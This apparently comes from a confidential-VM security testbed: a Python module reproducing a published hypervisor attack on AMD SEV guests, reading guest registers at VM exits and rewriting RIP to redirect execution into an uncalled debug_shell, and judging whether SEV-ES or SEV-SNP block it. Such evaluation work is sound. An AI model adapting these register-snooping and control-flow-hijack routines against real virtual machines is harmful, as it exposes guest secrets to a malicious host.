"""A04: register snooping and tampering at a VMEXIT (Hetzelt & Buhren, VEE 2017; Werner et al.,
"The SEVerESt of Them All", AsiaCCS 2019).

Under plain SEV the guest's register state at an exit sits in the unencrypted VMCB and in the
host's registers, so the hypervisor reads whatever the guest held (here: the first 8 secret
bytes, live in RBX at a port write) and rewrites RIP to run any code already in the guest
(here: debug_shell, which the guest itself never calls and which prints the secret). SEV-ES moves
that state into the encrypted, integrity-checked VMSA; the hypervisor sees only what the guest
copies into the GHCB.

Against a kernel (`run_kernel`, hv.attacks.kernel_lab) the hypervisor only reads: at every exit
of the boot it asks for RIP and RSP (KVM_GET_REGS) and CR3 (KVM_GET_SREGS), where the kernel
runs and which address space (process) is live, and claims the values of the last exit, the
init's power-off. The judge compares them with the core's own registers there
(hv.attacks.verdict.judge_kernel_registers). Plain and SEV give them away; under SEV-ES KVM
refuses the calls, and the VMSA page the hypervisor reads instead holds ciphertext.
"""

from __future__ import annotations

from sevwire import VMSA_SIZE

from hv.attacks.evidence import text_of
from hv.attacks.findings import Findings, Seen
from hv.attacks.kernel_lab import KernelFiles
from hv.attacks.lab import OP_REGS, PORT_REGS, Request, Stop
from hv.attacks.outcome import Outcome
from hv.attacks.snoop import snoop_kernel
from hv.attacks.verdict import REGISTERS_AT_EXIT, KernelTrial, Trial, judge, judge_kernel_registers
from hv.kvm import KvmError, RmpViolation, exits as K
from hv.kvm.vcpu import vmsa_words

__all__ = ["ID", "NAME", "PAPER", "PRIMITIVES", "run", "run_kernel"]

ID = "A04"
NAME = "registers at exits"
PAPER = "Hetzelt & Buhren, Security Analysis of Encrypted Virtual Machines, VEE 2017"
PRIMITIVES = ("X",)

REDIRECTED = 0x42  # debug_shell's exit status: the guest ran the code the hypervisor chose


def _attack(trial: Trial) -> Findings:
    seen: dict[str, object] = {}

    with trial.lab("service") as lab:
        target = lab.symbols["debug_shell"]

        def on_exit(e) -> None:
            if not (isinstance(e, K.Io) and e.port == PORT_REGS) or "rbx" in seen:
                return
            seen["vmsa"] = lab.vcpu.guest_state_protected
            seen["rbx"] = lab.vcpu.get_regs()["rbx"]   # under SEV-ES: the VMSA's ciphertext
            try:
                lab.vcpu.set_regs({"rip": target})
                seen["rip"] = None
            except RmpViolation as err:  # SEV-SNP: the RMP refuses host writes to the VMSA page
                seen["rip"] = err

        lab.launch()

        def script():
            yield Request(OP_REGS)

        stop = lab.run(script(), on_exit=on_exit)
        console = lab.serial()
    rbx = seen.get("rbx")
    redirected = stop.reason == "exit" and stop.code == REDIRECTED
    write, defence = _write_text(seen, stop, target, redirected)
    return Findings(f"{_read_text(seen)}; {write}",
                    recovered=rbx.to_bytes(8, "little") if isinstance(rbx, int) else b"",
                    seen=(Seen("the guest's console", console.encode(), space="offset"),),
                    completed=stop.reason == "exit", defence=defence)


def run(mode: str) -> Outcome:
    return judge(ID, mode, _attack)


def _read_text(seen: dict[str, object]) -> str:
    """What the hypervisor's read of RBX at the exit gave it."""
    rbx = seen.get("rbx")
    if not isinstance(rbx, int):
        return "the guest never made the exit the hypervisor waited for"
    where = "from the encrypted VMSA" if seen.get("vmsa") else "at the exit"
    return f"the hypervisor read RBX {where}: {rbx:#018x} (the bytes {text_of(rbx.to_bytes(8, 'little'))})"


def _write_text(seen: dict[str, object], stop: Stop, target: int, redirected: bool) -> tuple[str, str]:
    """What the hypervisor's RIP write did to the guest, and the defence that stopped it."""
    if redirected:
        return (f"it set RIP to debug_shell ({target:#x}) and the guest ran it and exited "
                f"{REDIRECTED:#x}", "")
    if "rip" not in seen:
        return f"it never wrote RIP; {stop.describe()}", ""
    err = seen["rip"]
    if err is not None:
        return f"its RIP write was refused ({err}); the guest ran on: {stop.describe()}", f"RMP: {err}"
    if isinstance(stop.exit, K.FailEntry):
        check = "VMSA integrity check failed: "
        why = (f"VMRUN failed the VMSA integrity check ({stop.exit.detail.removeprefix(check)})"
               if stop.exit.detail.startswith(check) else f"VMRUN failed ({stop.exit.detail})")
        return f"its RIP write was refused: {why}, so the guest never ran again", why
    return f"it set RIP to debug_shell ({target:#x}), but the guest did not run it: {stop.describe()}", ""


class _ExitReads:
    """The hypervisor's look at a kernel's registers at every exit: RIP and RSP (KVM_GET_REGS)
    and CR3 (KVM_GET_SREGS); where KVM refuses (SEV-ES), the same registers' words in the VMSA
    page as DRAM holds it, the one copy of them a hypervisor can reach."""

    def __init__(self) -> None:
        self.exits = 0
        self.last: dict[str, int] = {}
        self.spaces: set[int] = set()   # the CR3 values seen: the address spaces that ran
        self.refused = ""               # KVM's refusal, and at how many exits it came
        self.refusals = 0

    def __call__(self, vmm) -> None:
        self.exits += 1
        vcpu = vmm.vcpu
        try:
            regs, sregs = vcpu.get_regs(), vcpu.get_sregs()
        except KvmError as e:
            self.refused, self.refusals = str(e), self.refusals + 1
            self.last = vmsa_words(vmm.vm.host.read(vcpu.vmsa_spa, VMSA_SIZE), REGISTERS_AT_EXIT)
            return
        self.last = {"rip": regs["rip"], "rsp": regs["rsp"], "cr3": sregs["cr3"]}
        self.spaces.add(sregs["cr3"])


def _attack_kernel(trial: KernelTrial) -> Findings:
    reads = _ExitReads()
    last, _lab = snoop_kernel(trial, lambda lab: dict(reads.last), on_exit=reads)
    if not last:
        raise RuntimeError("the hypervisor saw no exit of the kernel's run")
    words = ", ".join(f"{n.upper()} {last[n]:#x}" for n in REGISTERS_AT_EXIT)
    recovered = b"".join(last[n].to_bytes(8, "little") for n in REGISTERS_AT_EXIT)
    if reads.refused:
        return Findings(f"KVM refused the registers at {reads.refusals} of the kernel's {reads.exits} exits "
                        f"({reads.refused}); the VMSA page read instead gave, at the last (its "
                        f"power-off), the words {words}", recovered=recovered, completed=True,
                        defence="SEV-ES: the registers are saved in the encrypted VMSA")
    return Findings(f"read RIP, RSP and CR3 at each of the kernel's {reads.exits} exits "
                    f"({len(reads.spaces)} distinct CR3 values); at the last (its power-off): {words}",
                    recovered=recovered, completed=True)


def run_kernel(mode: str, files: KernelFiles) -> Outcome:
    return judge_kernel_registers(ID, mode, files, _attack_kernel)
